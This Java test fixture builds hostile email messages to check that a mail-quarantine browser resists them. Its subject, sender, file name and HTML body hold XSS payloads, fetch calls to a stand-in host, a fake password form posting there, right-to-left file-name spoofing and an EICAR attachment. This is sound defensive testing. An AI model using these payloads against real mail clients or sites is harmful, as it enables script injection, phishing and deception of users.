package org.lazaret.it.browser;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.UUID;
import org.lazaret.it.client.Samples;

/** Mails with a text in HTML and an attachment that is held; also such whose subject, sender, file name and HTML try all they can. */
final class HostileMail {
    /** Where the scripts and pictures in it lead. Nothing answers there, and nothing may ask. */
    static final String ELSEWHERE = "http://elsewhere.example";
    static final String SCRIPT = "document.title='owned';fetch('" + ELSEWHERE + "/script');alert('owned')";
    static final String SUBJECT = "<script>" + SCRIPT + "</script>\"><img src=x onerror=\"" + SCRIPT.replace("'", "&#39;") + "\">";
    static final String SENDER = "\"><svg onload=alert(1)> {{7*7}} \u202eevil\u202c";
    static final String FILE = "<img src=x onerror=alert(1)>\u202efdp.docm";

    /** What a page that runs scripts, loads from elsewhere or moves on would show by a request, a dialog or another title. */
    static final String HTML = """
        <html><head><title>hostile</title>
        <meta http-equiv="refresh" content="0; url=%1$s/refresh">
        <base href="%1$s/base/">
        <link rel="stylesheet" href="%1$s/style.css"><link rel="prefetch" href="%1$s/prefetch"><link rel="dns-prefetch" href="//elsewhere.example">
        <style>@import url('%1$s/import.css'); body { background: url('%1$s/style.png') } input[value^="a"] { background: url('%1$s/a') }</style>
        <script>%2$s</script><script src="%1$s/script.js"></script></head>
        <body onload="%2$s" background="%1$s/background.png">
        <p style="background-image: url('%1$s/attribute.png'); position: fixed; inset: 0">The words of the mail.</p>
        <img src="%1$s/picture.png" srcset="%1$s/set.png 2x" onerror="%2$s"><img src="x" onerror="%2$s">
        <svg onload="%2$s"><script>%2$s</script><a xlink:href="javascript:%2$s"><text y="20">svg</text></a>
        <animate attributeName="href" values="javascript:%2$s"/><image href="%1$s/svg.png"/><use href="%1$s/use.svg#a"/>
        <foreignObject><body onload="%2$s"></body></foreignObject></svg>
        <math><mtext><table><mglyph><style><img src=x onerror="%2$s"></style></mglyph></table></mtext></math>
        <iframe src="%1$s/frame" srcdoc="&lt;script&gt;%2$s&lt;/script&gt;"></iframe>
        <object data="%1$s/object"></object><embed src="%1$s/embed"><video src="%1$s/video" poster="%1$s/poster" autoplay></video>
        <audio src="%1$s/audio" autoplay></audio>
        <form action="%1$s/form" method="post"><input name="password" type="password" autofocus onfocus="%2$s"><button>Sign in again</button></form>
        <details open ontoggle="%2$s"><summary>details</summary></details><marquee onstart="%2$s">marquee</marquee>
        <a href="javascript:%2$s">press me</a> <a href="%1$s/link" target="_top" ping="%1$s/ping">or me</a>
        <template><script>%2$s</script></template><noscript><img src="%1$s/noscript.png"></noscript>
        </body></html>
        """.formatted(ELSEWHERE, SCRIPT.replace("'", "&#39;").replace("\"", "&quot;"));

    private HostileMail() {
    }

    static byte[] message(List<String> recipients) {
        return message(SUBJECT, "\"" + SENDER.replace("\"", "\\\"") + "\"", recipients, "The words of the mail.", HTML, FILE);
    }

    /** A harmless mail but for its attachment. */
    static byte[] ordinary(String subject, String sender, List<String> recipients, String text, String html, String fileName) {
        return message(subject, sender, recipients, text, html, fileName);
    }

    private static byte[] message(String subject, String sender, List<String> recipients, String text, String html, String fileName) {
        return """
            From: %1$s <sender@example.com>
            To: %2$s
            Subject: %3$s
            Date: Mon, 23 Nov 2026 10:00:00 +0000
            Message-ID: <%4$s@example.com>
            MIME-Version: 1.0
            Content-Type: multipart/mixed; boundary="outer"

            --outer
            Content-Type: multipart/alternative; boundary="inner"

            --inner
            Content-Type: text/plain; charset=utf-8
            Content-Transfer-Encoding: base64

            %5$s
            --inner
            Content-Type: text/html; charset=utf-8
            Content-Transfer-Encoding: base64

            %6$s
            --inner--

            --outer
            Content-Type: application/zip; name="%7$s"
            Content-Transfer-Encoding: base64
            Content-Disposition: attachment; filename="%7$s"

            %8$s
            --outer--
            """.replace("\n", "\r\n").formatted(word(sender), String.join(", ", recipients), word(subject),
                UUID.randomUUID(), base64(text + "\r\n"), base64(html), word(fileName),
                Base64.getMimeEncoder().encodeToString(Samples.eicarInZip().content()))
            .getBytes(StandardCharsets.US_ASCII);
    }

    /** Encoded words (RFC 2047), each below 76 characters; in file names, as most mail programs read them too. */
    private static String word(String text) {
        if (text.chars().allMatch(c -> c >= ' ' && c < 127 && c != '"' && c != '<')) {
            return text;
        }
        StringBuilder words = new StringBuilder();
        int[] points = text.codePoints().toArray();
        for (int i = 0; i < points.length; i += 10) {
            String part = new String(points, i, Math.min(10, points.length - i));
            words.append(i == 0 ? "" : "\r\n ").append("=?utf-8?B?").append(Base64.getEncoder().encodeToString(part.getBytes(StandardCharsets.UTF_8)))
                .append("?=");
        }
        return words.toString();
    }

    private static String base64(String text) {
        return Base64.getMimeEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
